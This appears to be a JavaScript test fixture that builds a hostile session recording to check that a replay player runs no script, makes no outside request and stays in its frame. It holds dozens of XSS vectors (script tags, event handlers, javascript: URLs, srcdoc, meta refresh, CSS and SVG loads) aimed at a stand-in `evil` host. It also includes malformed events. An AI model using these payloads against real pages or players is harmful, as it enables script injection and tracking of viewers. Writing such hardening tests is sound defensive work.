// A recording made to attack who watches it: everything that might run a script,
// send a request or leave the player's frame. `evil` is a server of the
// attacker's; names under evil.test are looked up by nobody else.

let ids = 0;
const node = (tagName, attributes = {}, ...childNodes) => ({
  type: 2, tagName, attributes, childNodes: childNodes.map((c) => (typeof c === "string" ? text(c) : c)), id: ++ids,
});
const text = (textContent, more = {}) => ({ type: 3, textContent, id: ++ids, ...more });
const svg = (tagName, attributes, ...children) => ({ ...node(tagName, attributes, ...children), isSVG: true });

const run = (what) => `window.pwned=top.pwned=parent.pwned='${what}';fetch('/stats?ran=${what}')`;

// Each vector gets a URL of its own, so that a failure names it.
export function vectors(evil) {
  const url = (what) => `${evil}/${what}`;
  const name = (what) => `http://${what}.evil.test/`;
  return [
    node("script", {}, run("script")),
    node("SCRIPT", {}, run("upper-case-script")),
    node("script", { src: url("script-src") }),
    node("SCRIPT", { src: "/tracker.js" }),
    node("SCRIPT", { type: "module", src: "/assets/list.js" }),
    node("SCRIPT", { type: "speculationrules" }, JSON.stringify({ prefetch: [{ source: "list", urls: [url("speculation")] }] })),
    svg("script", {}, run("svg-script")),
    svg("SCRIPT", { href: "data:text/javascript," + run("svg-script-href") }),
    node("img", { src: "x", onerror: run("img-onerror") }),
    node("img", { src: url("img") }),
    node("img", { src: "/sessions/active?hostile=img" }),
    node("img", { srcset: `${url("srcset")} 2x` }),
    node("img", { src: "x", rr_dataURL: url("img-rr-dataurl") }),
    node("canvas", { rr_dataURL: url("canvas-rr-dataurl") }),
    node("picture", {}, node("source", { srcset: url("picture-source") }), node("img", { src: url("picture-img") })),
    node("video", { src: url("video"), poster: url("poster"), autoplay: "", rr_mediaState: "played" }, node("track", { src: url("track"), default: "" })),
    node("audio", { src: url("audio"), autoplay: "", onerror: run("audio-onerror") }),
    node("iframe", { src: `javascript:${run("iframe-javascript")}` }),
    node("iframe", { src: url("iframe") }),
    node("iframe", { src: "/view/other" }),
    node("iframe", { src: `data:text/html,<script>${run("iframe-data")}</script>` }),
    node("iframe", {
      srcdoc: `<script>${run("srcdoc")}</script><img src="${url("srcdoc-img")}"><link rel=preconnect href="${url("srcdoc-preconnect")}">`
        + `<link rel=dns-prefetch href="${name("srcdoc-dns")}"><meta http-equiv=refresh content="0;url=${url("srcdoc-refresh")}">`,
    }),
    node("object", { data: url("object"), type: "text/html" }),
    node("embed", { src: url("embed"), type: "image/svg+xml" }),
    node("frame", { src: url("frame") }),
    node("meta", { "http-equiv": "refresh", content: `0;url=${url("meta-refresh")}` }),
    node("META", { "HTTP-EQUIV": "refresh", content: `0;url=javascript:${run("meta-refresh")}` }),
    node("meta", { "http-equiv": "x-dns-prefetch-control", content: "on" }),
    node("base", { href: url("base/"), target: "_top" }),
    node("link", { rel: "stylesheet", href: url("stylesheet") }),
    node("link", { rel: "stylesheet", href: "/sessions/active?hostile=stylesheet" }),
    node("link", { rel: "preload", as: "image", href: url("preload") }),
    node("link", { rel: "preload", as: "fetch", href: "/sessions/active?hostile=preload", crossorigin: "use-credentials" }),
    node("link", { rel: "modulepreload", href: "/assets/list.js" }),
    node("link", { rel: "prefetch", href: url("prefetch") }),
    node("link", { rel: "prerender", href: url("prerender") }),
    node("link", { rel: "preconnect", href: url("preconnect") }),
    node("LINK", { REL: "preconnect", HREF: url("upper-case-preconnect") }),
    node("LINK", { rel: "preconnect", href: url("styled-preconnect"), _cssText: "b {}" }),
    node(["iframe"], { src: url("list-for-a-name") }),
    node("link", { rel: "dns-prefetch", href: name("dns-prefetch") }),
    node("link", { rel: "icon", href: url("icon") }), node("link", { rel: "stylesheet", href: { toString: 1 } }),
    node("canvas", { rr_dataURL: { toString: 1 } }), node("meta", { NAME: "referrer", content: "unsafe-url" }),
    node("link", { rel: "manifest", href: url("manifest") }),
    node("a", { href: `javascript:${run("a-javascript")}`, id: "click", ping: url("ping") }, "click me"),
    node("a", { href: name("anchor-dns") }, "a link"),
    node("a", { href: url("top"), target: "_top", autofocus: "" }, "to the top"),
    node("form", { action: url("form"), id: "form" }, node("input", { name: "a", value: "b", autofocus: "", onfocus: run("onfocus") }), node("button", { formaction: url("formaction") })),
    node("input", { type: "image", src: url("input-image") }),
    node("style", { _cssText: `@import url("${url("import")}"); @font-face { font-family: evil; src: url("${url("font")}"); } `
      + `body { font-family: evil; background: url("${url("background")}"); cursor: url("${url("cursor")}"), auto; } `
      + `@keyframes x { from { opacity: 1 } } details { animation: x 1s; list-style-image: url(${url("list-style")}) }` }, text("", { isStyle: true })),
    node("style", {}, text(`@import "${url("import-text")}"; p::before { content: url(${url("content")}) }`, { isStyle: true })),
    node("style", { _cssText: `@import url("/sessions/active?hostile=import"); b { background: url(/sessions/active?hostile=css) }` }, text("", { isStyle: true })),
    node("p", { style: `background: image-set(url("${url("style-attribute")}") 1x)` }, "styled"),
    node("body", { background: url("body-background"), onload: run("body-onload") }),
    node("details", { open: "", ontoggle: run("ontoggle") }, node("summary", {}, "more")),
    node("div", { onanimationstart: run("onanimationstart"), style: "animation: x 1s" }),
    node("marquee", { onstart: run("onstart") }, "moving"),
    node("dialog", { open: "", rr_open_mode: "modal" }, "a dialog over everything"),
    svg("svg", { onload: run("svg-onload") },
      svg("image", { href: url("svg-image"), "xlink:href": url("svg-xlink") }), svg("use", { href: `${url("svg-use")}#a` }),
      svg("animate", { onbegin: run("onbegin"), attributeName: "x", dur: "1s" }), svg("feImage", { href: url("feimage") }),
      svg("foreignObject", {}, node("iframe", { srcdoc: `<script>${run("foreign-object")}</script>` }))),
    node("div", { "is": "evil-element" }, text("<img src=x onerror=\"top.pwned='text'\">")),
    node("img", { alt: `"/><script>${run("alt")}</script><image href="${url("alt-image")}"/>`, src: url("boxed"), "replay-size": "30 20" }),
    node("video", { src: url("boxed-video"), poster: url("boxed-poster"), "replay-size": "30 20" }),
    node("b", { "replay-size": "9999999 1", "replay-media": "prefers-color-scheme:", "replay-motion": "[{" }),
    node("b", { "replay-size": "9 9", "replay-motion": JSON.stringify([{ keyframes: { backgroundImage: [`url(${url("motion")})`, "none"] }, timing: { duration: 1e9 }, at: 0, rate: 1 }]) }),
    node("div", { popover: "auto", "replay-state": "popover-open fullscreen focus disabled" }, "over everything"),
    node("style", { media: `(prefers-color-scheme: dark), url(${url("media")})`, _cssText: `@media (hover) { i { background: url(${url("in-media")}) } }` }),
    { ...node("evil-element", { onclick: run("custom") }), isCustom: true },
    node("textarea", { value: `</textarea><script>${run("textarea")}</script>` }),
    { ...text("no element"), childNodes: [node("b", {}, "in a text")] },
    node("noscript", {}, `<img src="${url("noscript")}">`),
    node("template", { shadowrootmode: "open" }, node("img", { src: url("template") })),
    { ...node("div", {}, { ...node("img", { src: url("shadow"), onerror: run("shadow") }), isShadow: true }), isShadowHost: true },
  ];
}

// Events that are no events: none may stop the replay of those behind them.
const broken = (t) => [
  null, 7, "text", [], {}, { type: 3 }, { type: 3, timestamp: t }, { type: 3, timestamp: t, data: null }, { type: 2, timestamp: t, data: {} },
  { type: 4, timestamp: t, data: { href: "x", width: "wide", height: null } }, { type: 3, timestamp: null, data: { source: 2, type: 2, id: 1 } },
  { type: 3, timestamp: t, data: { source: 0 } }, { type: 3, timestamp: t, data: { source: 0, adds: [null, { node: null }], removes: 5, attributes: [null], texts: [] } },
  { type: 3, timestamp: t, data: { source: 1, positions: [] } }, { type: 3, timestamp: t, data: { source: 1, positions: [{ x: 1, y: 1, id: 1 }] } },
  { type: 3, timestamp: t, data: { source: 2, type: 99, id: 3 } }, { type: 3, timestamp: t, data: { source: 3, id: 99999, x: 1, y: 1 } },
  { type: 3, timestamp: t, data: { source: 8, id: 3, adds: [{ rule: "}}}{", index: 1e9 }] } }, { type: 3, timestamp: t, data: { source: 13, id: 3, index: [0], set: 5 } },
  { type: 3, timestamp: t, data: { source: 10, family: "evil", fontSource: "[", buffer: true } }, { type: 3, timestamp: t, data: { source: 15, id: 3, styles: 5 } },
  { type: 99, timestamp: t, data: {} }, { type: 3, timestamp: t, data: { source: 2, type: "2", id: 3 } },
  { type: 5, timestamp: t, data: { tag: {}, payload: null } }, { type: 3, timestamp: 1e300, data: { source: 0 } },
];

// recording gives the events: the vectors in a full snapshot, then once more in
// mutations, then by attributes that turn harmless nodes into the vectors, with
// broken events in between; at its end it writes "still alive" into the page.
export function recording(evil, start = Date.now() - 60_000) {
  ids = 0;
  let t = start;
  const at = (ms) => (t += ms);
  const doctype = { type: 1, name: "html", publicId: "", systemId: "", id: ++ids };
  const target = node("div", { id: "target" });
  const plain = ["img", "link", "iframe", "meta", "script", "div", "a"].map((tag) => node(tag));
  const alive = text("start");
  const page = { type: 0, childNodes: [doctype, node("html", {}, node("head", {}, ...vectors(`${evil}/head`)),
    node("body", {}, ...vectors(`${evil}/body`), target, ...plain, node("p", { id: "alive" }, alive)))], id: ++ids };
  const mutation = (data) => ({ type: 3, timestamp: at(300), data: { source: 0, texts: [], attributes: [], removes: [], adds: [], ...data } });
  const turned = {
    src: `${evil}/turned-src`, href: `${evil}/turned-href`, rel: "preconnect", onerror: run("turned"), onload: run("turned"), onclick: run("turned"),
    srcdoc: `<script>${run("turned-srcdoc")}</script>`, "http-equiv": "refresh", content: `0;url=${evil}/turned-refresh`, autofocus: "",
    style: { background: `url(${evil}/turned-style)` },
  };
  return [
    { type: 4, timestamp: t, data: { href: `javascript:${run("href")}`, width: 1000, height: 700 } },
    { type: 2, timestamp: t, data: { node: page, initialOffset: 5 } },
    ...broken(at(200)),
    mutation({ adds: vectors(`${evil}/added`).map((n) => ({ parentId: target.id, nextId: null, node: n })) }),
    ...broken(at(200)),
    mutation({ attributes: plain.map(({ id }) => ({ id, attributes: turned })) }),
    { type: 3, timestamp: at(100), data: { source: 8, id: 1, adds: [{ rule: `@import url(${evil}/rule)`, index: 0 }] } },
    { type: 3, timestamp: at(10), data: { source: 10, family: "evil2", fontSource: `url(${evil}/fontface)`, buffer: false, descriptors: {} } },
    { type: 3, timestamp: at(10), data: { source: 9, id: 1, type: 0, property: "drawImage", args: [`${evil}/canvas`] } },
    { type: 3, timestamp: at(10), data: { source: 5, id: plain[6].id, text: "x", isChecked: true } },
    ...["5", "2", "0", "1"].map((type) => ({ type: 3, timestamp: at(10), data: { source: 2, type: Number(type), id: plain[6].id, x: 1, y: 1 } })),
    { type: 5, timestamp: at(10), data: { tag: "navigation", payload: { href: `<img src=${evil}/mark onerror="top.pwned='mark'">` } } },
    ...broken(at(200)),
    mutation({ texts: [{ id: alive.id, value: "still alive" }] }),
    mutation({}), mutation({}),
  ];
}
